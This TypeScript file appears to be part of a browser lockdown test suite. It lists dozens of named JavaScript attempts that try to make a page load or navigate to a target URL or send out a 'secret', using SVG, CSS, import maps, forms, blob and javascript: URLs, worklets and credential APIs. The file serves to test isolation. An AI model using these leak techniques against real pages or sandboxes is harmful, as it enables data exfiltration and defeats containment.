import type { Attempt } from './attempts.ts';

const xhtml = 'http://www.w3.org/1999/xhtml';
const svg = (name: string, fill: string) =>
  `const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); document.body.append(s);
    const e = document.createElementNS('http://www.w3.org/2000/svg', '${name}'); s.append(e); ${fill}`;

/**
 * Further attempts: what newer or rarer parts of the platform offer, and names and values that are read in
 * odd ways. A file has no host to change: setting one would only load it again.
 */
export const rarerAttempts: Attempt[] = [
  ...['iframe', 'link', 'meta', 'object', 'embed', 'script'].map((name) => ({
    name: `${name} whose name has two colons`,
    leaves: true as const,
    body: `const e = document.createElementNS('${xhtml}', 'x:${name}:y'); e.rel = 'prefetch'; e.href = e.src = e.data = to;
      e.httpEquiv = 'refresh'; e.content = '0;url=' + to; document.head.append(e); document.body.append(e)`,
  })),
  {
    name: 'SVG link whose name has two colons',
    leaves: true,
    body: `const e = document.createElementNS('http://www.w3.org/2000/svg', 'x:a:y'); e.setAttribute('href', to);
      e.setAttribute('target', '_blank'); document.body.append(e); e.dispatchEvent(new MouseEvent('click', { bubbles: true }))`,
  },
  {
    name: 'href whose name has two colons',
    body: svg('image', `e.setAttributeNS('http://www.w3.org/1999/xlink', 'x:href:y', to)`),
  },
  ...['use', 'feImage', 'pattern', 'linearGradient', 'filter', 'textPath', 'mpath', 'cursor', 'script'].map(
    (name) => ({
      name: `SVG ${name}`,
      body: svg(
        name,
        `e.setAttribute('href', to + '#x'); e.setAttributeNS('http://www.w3.org/1999/xlink', 'xlink:href', to + '#x')`,
      ),
    }),
  ),
  { name: 'SVG image by its property', body: svg('image', 'e.href.baseVal = to') },
  {
    name: 'SVG set and animate',
    body: svg(
      'image',
      `for (const name of ['set', 'animate']) { const a = document.createElementNS('http://www.w3.org/2000/svg', name);
      a.setAttribute('attributeName', 'href'); a.setAttribute('to', to); a.setAttribute('values', to); e.append(a) }`,
    ),
  },
  {
    name: 'SVG filled and masked from elsewhere',
    body: svg(
      'rect',
      `for (const name of ['fill', 'mask', 'filter', 'clip-path', 'marker-end']) e.setAttribute(name, 'url(' + to + '#x)')`,
    ),
  },
  {
    name: 'MathML href',
    leaves: true,
    body: `const m = document.createElementNS('http://www.w3.org/1998/Math/MathML', 'math'); document.body.append(m);
      m.setAttribute('href', to); m.setAttributeNS('http://www.w3.org/1999/xlink', 'xlink:href', to); m.dispatchEvent(new MouseEvent('click', { bubbles: true }))`,
  },
  {
    name: 'video poster',
    body: 'const v = document.createElement("video"); v.poster = to; document.body.append(v)',
  },
  {
    name: 'track and source',
    body: `const v = document.createElement('video'); v.crossOrigin = 'anonymous'; document.body.append(v);
      for (const name of ['track', 'source']) { const t = document.createElement(name); t.src = to; v.append(t); if (t.track) t.track.mode = 'showing' } v.load()`,
  },
  {
    name: 'picture source',
    body: 'const p = document.createElement("picture"), s = document.createElement("source"), i = document.createElement("img"); s.srcset = to; p.append(s, i); document.body.append(p)',
  },
  {
    name: 'background of old attributes',
    body: "for (const n of ['table', 'td', 'body']) { const e = document.createElement(n); e.setAttribute('background', to); document.body.append(e) }",
  },
  {
    name: 'lowsrc, dynsrc and longdesc',
    body: "const i = document.createElement('img'); for (const n of ['lowsrc', 'dynsrc', 'longdesc']) i.setAttribute(n, to); document.body.append(i)",
  },
  {
    name: 'rules of every kind in the page’s own style sheet',
    body: `const rules = ['@import url(' + to + ');', '@font-face{font-family:q;src:url(' + to + ')}', '@counter-style q{system:cyclic;symbols:url(' + to + ')}',
      'html{list-style-image:url(' + to + ');border-image:url(' + to + ') 1;mask:url(' + to + '#m);filter:url(' + to + '#f);clip-path:url(' + to + '#c);font-family:q;'
        + 'offset-path:url(' + to + '#o);shape-outside:url(' + to + ');-webkit-mask-box-image:url(' + to + ');background:image-set(url(' + to + ') 1x),-webkit-cross-fade(url(' + to + '),url(' + to + '),50%)}'];
      for (const sheet of document.styleSheets) for (const rule of rules) try { sheet.insertRule(rule, 0) } catch {}
      for (const rule of rules) try { const s = new CSSStyleSheet({ baseURL: to }); s.insertRule(rule.replaceAll(to, 'x')); document.adoptedStyleSheets.push(s) } catch {}`,
  },
  {
    name: 'custom property of a URL',
    body: `CSS.registerProperty({ name: '--u', syntax: '<image>', inherits: false, initialValue: 'none' }); document.body.style.setProperty('--u', 'url(' + to + ')'); document.body.style.background = 'var(--u)'`,
  },
  {
    name: 'animation to a URL',
    body: `document.body.animate({ backgroundImage: ['none', 'url(' + to + ')'] }, { duration: 10, fill: 'forwards' })`,
  },
  {
    name: 'a copy of the page’s script',
    body: `const s = document.querySelector('script').cloneNode(); s.removeAttribute('src'); s.type = 'speculationrules';
      s.append(JSON.stringify({ prefetch: [{ source: 'list', urls: [to] }], prerender: [{ source: 'list', urls: [to] }] })); document.head.append(s)`,
  },
  {
    name: 'import map of a copied script',
    body: `const s = document.querySelector('script').cloneNode(); s.removeAttribute('src'); s.type = 'importmap'; s.append(JSON.stringify({ imports: { leak: to } })); document.head.append(s); await import('leak')`,
  },
  {
    name: 'shifty import',
    body: `let n = 0; await import({ toString: () => (n++ ? to : new URL('lockdown.js', location.href).href) })`,
  },
  {
    name: 'fresh document',
    leaves: true,
    body: `const d = new Document(); const f = d.createElementNS('${xhtml}', 'iframe'); f.src = to; document.body.append(document.adoptNode(f))`,
  },
  {
    name: 'document type and adopted nodes',
    leaves: true,
    body: `const t = document.implementation.createDocumentType('html', '', to); const d = new Document(); d.append(t); const f = d.importNode(document.querySelector('link')); f.href = to; f.rel = 'prefetch'; document.head.append(document.adoptNode(f))`,
  },
  {
    name: 'elements by their constructors',
    leaves: true,
    body: `for (const n of ['HTMLIFrameElement', 'HTMLLinkElement', 'HTMLMetaElement', 'HTMLFencedFrameElement', 'HTMLObjectElement', 'HTMLEmbedElement'])
      try { const e = new globalThis[n](); e.src = e.href = e.data = to; document.body.append(e) } catch {}
      for (const n of ['HTMLIFrameElement', 'HTMLLinkElement']) { const e = Reflect.construct(HTMLElement, [], globalThis[n]); e.src = e.href = to; document.body.append(e) }`,
  },
  {
    name: 'another prototype under an element',
    body: `const e = document.createElement('div'); Object.setPrototypeOf(e, HTMLIFrameElement.prototype); e.src = to; document.body.append(e)`,
  },
  {
    name: 'HTML from a range, a template, a fragment and streams',
    body: `const html = '<img src=' + to + '><iframe src=' + to + '></iframe>'; const d = document.createElement('div'); document.body.append(d); const t = document.createElement('template');
      for (const act of [() => document.createRange().createContextualFragment(html), () => d.setHTMLUnsafe(html), () => d.setHTML(html), () => d.streamHTML().getWriter().write(html), () => d.streamHTMLUnsafe().getWriter().write(html),
        () => d.streamAppendHTMLUnsafe().getWriter().write(html), () => d.appendHTMLUnsafe(html), () => d.beforeHTMLUnsafe(html), () => d.replaceWithHTMLUnsafe(html), () => { t.innerHTML = html; d.append(t.content) }, () => t.setHTMLUnsafe(html),
        () => document.documentElement.insertAdjacentHTML('beforeend', html), () => Document.parseHTMLUnsafe(html), () => Document.parseHTML(html), () => { d.outerHTML = html }, () => document.execCommand('insertHTML', false, html)])
        try { const r = act(); if (r && r.nodeType) document.body.append(r.body ?? r) } catch {}`,
  },
  {
    name: 'HTML put into an editable place',
    body: `document.body.contentEditable = 'true'; document.designMode = 'on'; getSelection().selectAllChildren(document.body);
      try { document.execCommand('insertHTML', false, '<img src=' + to + '>') } finally { document.designMode = 'off'; document.body.contentEditable = 'inherit'; getSelection().removeAllRanges() }`,
  },
  {
    name: 'shadow tree',
    body: `const d = document.createElement('div'); document.body.append(d); const r = d.attachShadow({ mode: 'closed' }); const a = document.createElement('a'); a.href = to; a.target = '_blank'; r.append(a); a.click()`,
  },
  {
    name: 'form to a new window',
    leaves: true,
    body: `const f = document.createElement('form'), i = document.createElement('input'); i.name = 'secret'; i.value = 'x'; f.append(i); f.target = '_blank'; document.body.append(f);
      await new Promise((r) => setTimeout(r, 50)); f.submit(); f.requestSubmit(); HTMLFormElement.prototype.submit.call(f)`,
  },
  {
    name: 'form by a copied action',
    leaves: true,
    body: `const f = document.createElement('form'); f.setAttribute('action', 'search'); const c = f.cloneNode(); c.attributes.action.nodeValue = to; document.body.append(c); c.submit()`,
  },
  {
    name: 'submitting image and buttons with actions of their own',
    leaves: true,
    body: `const f = document.createElement('form'); document.body.append(f); for (const n of ['button', 'input']) { const b = document.createElement(n); b.type = n === 'input' ? 'image' : 'submit';
      try { b.setAttribute('formaction', to) } catch {} try { b.setAttributeNS(null, 'formaction', to) } catch {} try { b.toggleAttribute('formaction'); b.attributes.formaction.value = to } catch {} b.formTarget = '_blank'; f.append(b); b.click() }`,
  },
  {
    name: 'area of a map',
    leaves: true,
    body: `const m = document.createElement('map'), a = document.createElement('area'); m.append(a); document.body.append(m); a.target = '_blank';
      for (const put of [() => (a.href = to), () => a.setAttribute('href', to), () => (a.ping = to), () => a.setAttribute('ping', to), () => { a.href = '#'; a.hostname = host }]) try { put() } catch {} a.click()`,
  },
  {
    name: 'link that lies about its start',
    leaves: true,
    body: `const a = document.createElement('a'); a.target = '_blank'; document.body.append(a); for (const v of [' ' + to, '\\t' + to, '#', '\\0' + to, to.replace('http', 'HTTP'), '//' + host, '/\\\\' + host, 'blob:' + to, 'BLOB:' + to, 'view-source:' + to, 'mailto:x@' + host, 'data:text/html,x', 'javascript:fetch(1)'])
      try { a.href = v; a.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, ctrlKey: true })); a.click() } catch {}`,
  },
  {
    name: 'link to bytes in memory, as a page',
    leaves: true,
    body: `const u = URL.createObjectURL(new Blob(['<script src=' + to + '></script><img src=' + to + '>'], { type: 'text/html' }));
      for (const extra of [{}, { ctrlKey: true }, { shiftKey: true }, { metaKey: true }, { button: 1 }]) for (const target of ['', '_blank']) { const a = document.createElement('a'); a.href = u; a.target = target; document.body.append(a);
      try { a.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, ...extra })) } catch {} try { a.dispatchEvent(new MouseEvent('auxclick', { bubbles: true, cancelable: true, ...extra })) } catch {} }`,
  },
  {
    name: 'location of bytes in memory',
    leaves: true,
    body: `location.href = URL.createObjectURL(new Blob(['<img src=' + to + '>'], { type: 'text/html' }))`,
  },
  {
    name: 'location by other names',
    leaves: true,
    body: `for (const go of [() => (document.location = to), () => (window.location = to), () => location.assign(to), () => { if (location.protocol !== 'file:') for (const [part, value] of Object.entries({ host, hostname: host, port, protocol: 'https:' })) location[part] = value }, () => (location.pathname = '/secret'), () => (top.location = to), () => (parent.location.href = to), () => (self.frames.location = to), () => Reflect.set(window, 'location', to)]) try { go() } catch {}`,
  },
  {
    name: 'location of other schemes',
    leaves: true,
    body: `for (const v of ['view-source:' + to, 'ftp://' + host, 'intent://' + host + '#Intent;scheme=http;end', 'javascript:void(new Image().src="' + to + '")', 'data:text/html,<img src=' + to + '>']) try { location.href = v } catch {}`,
  },
  {
    name: 'states of other addresses',
    body: `for (const act of [() => history.pushState({}, '', '/secret'), () => history.replaceState({}, '', '?secret'), () => navigation.navigate('?secret', { history: 'replace', state: 1 }).finished.catch(() => {}), () => navigation.navigate(to).finished.catch(() => {})]) try { act() } catch {}`,
  },
  {
    name: 'navigation turned back by another listener',
    leaves: true,
    body: `navigation.addEventListener('navigate', (e) => { try { e.intercept({ handler: () => new Promise(() => {}) }) } catch {} }); addEventListener('click', (e) => Object.defineProperty(e, 'defaultPrevented', { value: false }), true); location.href = to`,
  },
  {
    name: 'passkeys and identities',
    body: `for (const act of [() => PublicKeyCredential.signalUnknownCredential({ rpId: host, credentialId: 'AAAA' }), () => PublicKeyCredential.signalAllAcceptedCredentials({ rpId: host, userId: 'AAAA', allAcceptedCredentialIds: [] }),
      () => PublicKeyCredential.signalCurrentUserDetails({ rpId: host, userId: 'AAAA', name: 'x', displayName: 'x' }), () => IdentityProvider.getUserInfo({ configURL: to, clientId: 'x' }), () => IdentityProvider.register(to), () => IdentityCredential.disconnect({ configURL: to, clientId: 'x', accountHint: 'x' }),
      () => Navigator.prototype.__lookupGetter__('credentials').call(navigator).get({ publicKey: { challenge: new Uint8Array(8), rpId: host } }), () => navigator.login.setStatus('logged-in', { accounts: [{ picture: to }] })]) try { await Promise.race([act(), new Promise((r) => setTimeout(r, 50))]) } catch {}`,
  },
  {
    name: 'protocol handlers, shares, installs and badges',
    body: `for (const act of [() => navigator.registerProtocolHandler('web+x', location.origin + '/?%s'), () => navigator.share({ url: to }), () => navigator.install(to, to), () => navigator.install(to), () => external.AddSearchProvider(to), () => document.requestStorageAccessFor(to), () => document.hasPrivateToken(new URL(to).origin), () => document.hasRedemptionRecord(new URL(to).origin), () => navigator.joinAdInterestGroup({ owner: new URL(to).origin, name: 'x' }, 10), () => sharedStorage.worklet.addModule(to), () => navigator.presentation, () => new PresentationRequest(to).getAvailability()])
      try { await Promise.race([act(), new Promise((r) => setTimeout(r, 50))]) } catch {}`,
  },
  {
    name: 'elements that install, ask or frame',
    leaves: true,
    body: `for (const n of ['install', 'permission', 'geolocation', 'usermedia', 'fencedframe', 'controlledframe', 'webview', 'portal', 'model', 'xmp', 'bgsound', 'isindex', 'frameset', 'noscript', 'applet', 'param', 'keygen', 'dialog', 'search', 'credential'])
      try { const e = document.createElement(n); for (const a of ['src', 'href', 'installurl', 'manifestid', 'config', 'data', 'code', 'archive', 'value']) try { e.setAttribute(a, to) } catch {} document.body.append(e); e.click() } catch {}`,
  },
  {
    name: 'worklets',
    body: `for (const act of [() => CSS.paintWorklet.addModule(to), () => CSS.layoutWorklet.addModule(to), () => CSS.animationWorklet.addModule(to), () => new OfflineAudioContext(1, 8, 8000).audioWorklet.addModule(to), () => new OfflineAudioContext(1, 8, 8000).audioWorklet.addModule('./leak.js?secret')]) try { await Promise.race([act(), new Promise((r) => setTimeout(r, 50))]) } catch {}`,
  },
  {
    name: 'what the service worker registration offers',
    body: `const r = await navigator.serviceWorker?.getRegistration(); for (const act of [() => r.update(), () => r.backgroundFetch.fetch('x', [to]), () => r.sync.register('secret'), () => r.periodicSync.register('secret'), () => r.navigationPreload.setHeaderValue('secret'), () => r.navigationPreload.enable(), () => r.showNotification('x', { icon: to }), () => r.cookies.subscribe([{ url: './secret' }]), () => r.pushManager.subscribe({ userVisibleOnly: true, applicationServerKey: 'x' }), () => navigator.serviceWorker.register('sw.js?secret'), () => navigator.serviceWorker.register('sw.js', { scope: './secret/' })])
      try { await Promise.race([act(), new Promise((r) => setTimeout(r, 50))]) } catch {}`,
  },
  {
    name: 'the page’s icon put in again',
    body: `for (const l of document.querySelectorAll('link')) for (let i = 0; i < 3; i += 1) { const c = l.cloneNode(); document.head.append(c); l.remove(); document.head.append(l); c.remove(); await new Promise((r) => setTimeout(r, 30)) }`,
  },
  {
    name: 'scripts and style sheets of the page put in again',
    body: `for (const l of document.querySelectorAll('script, link[rel=stylesheet]')) { const c = l.cloneNode(); c.removeAttribute('integrity'); document.head.append(c) }`,
  },
  {
    name: 'media from streams and sources',
    body: `const v = document.createElement('video'); v.srcObject = new MediaSource(); document.body.append(v); const u = URL.createObjectURL(new Blob(['#EXTM3U\\n#EXTINF:1,\\n' + to], { type: 'application/vnd.apple.mpegurl' })); const w = document.createElement('video'); w.src = u; w.load()`,
  },
  {
    name: 'picture of SVG with a picture in it',
    body: `const i = new Image(); i.src = URL.createObjectURL(new Blob(['<svg xmlns="http://www.w3.org/2000/svg"><image href="' + to + '"/><style>@import url(' + to + ');</style><foreignObject><img xmlns="${xhtml}" src="' + to + '"/></foreignObject></svg>'], { type: 'image/svg+xml' })); document.body.append(i)`,
  },
  {
    name: 'built-ins of another kind of function',
    body: `for (const make of [Function, (async () => {}).constructor, (function* () {}).constructor, (async function* () {}).constructor]) try { make('to', 'new Image().src = to')(to) } catch {} setTimeout('new Image().src = "' + to + '"'); document.body.setAttribute('onclick', 'new Image().src = "' + to + '"'); document.body.dispatchEvent(new Event('click'))`,
  },
  {
    name: 'attributes moved from one element to another',
    leaves: true,
    body: `const a = document.createAttribute('href'); try { a.value = to } catch {} try { a.nodeValue = to } catch {} try { a.textContent = to } catch {} const l = document.createElement('a'); for (const put of [() => l.setAttributeNode(a), () => l.setAttributeNodeNS(a), () => l.attributes.setNamedItem(a), () => l.attributes.setNamedItemNS(a), () => l.append(a)]) try { put() } catch {} l.target = '_blank'; document.body.append(l); l.click()`,
  },
];
